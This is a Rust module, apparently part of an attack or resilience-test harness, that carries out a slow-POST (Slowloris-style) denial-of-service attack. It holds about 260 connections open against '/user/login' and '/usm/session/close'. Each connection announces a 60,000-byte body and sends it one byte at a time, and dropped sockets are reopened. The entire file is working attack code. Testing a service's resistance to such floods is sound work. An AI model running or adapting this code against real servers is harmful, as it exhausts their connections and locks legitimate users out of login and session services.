//! Announced bodies that do not come, without a credential; on routes that end something, too.

use std::io::Write as _;
use std::net::TcpStream;
use std::time::Duration;

use crate::elsewhere::Attacker;

const SOCKETS: usize = 260;
/// Begun anew at a time, in the place of those that were refused or cut off.
const AGAIN: usize = 25;

fn begun(attacker: &Attacker<'_>, number: usize) -> Option<TcpStream> {
    let path = if number.is_multiple_of(7) { "/usm/session/close" } else { "/user/login" };
    let mut stream = attacker.connect()?;
    let head = format!("POST {path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n{{");
    stream.write_all(head.as_bytes()).ok()?;
    Some(stream)
}

/// Four times this is the attack. How many requests were begun.
pub fn attack(attacker: &Attacker<'_>) -> u64 {
    let (mut held, mut made) = (Vec::new(), 0);
    while attacker.goes_on() {
        held.retain_mut(|stream: &mut TcpStream| stream.write_all(b" ").is_ok());
        let missing = SOCKETS - held.len();
        for _ in 0..if made == 0 { missing } else { missing.min(AGAIN) } {
            made += 1;
            held.extend(begun(attacker, held.len()));
        }
        attacker.pause(Duration::from_millis(250));
    }
    made
}
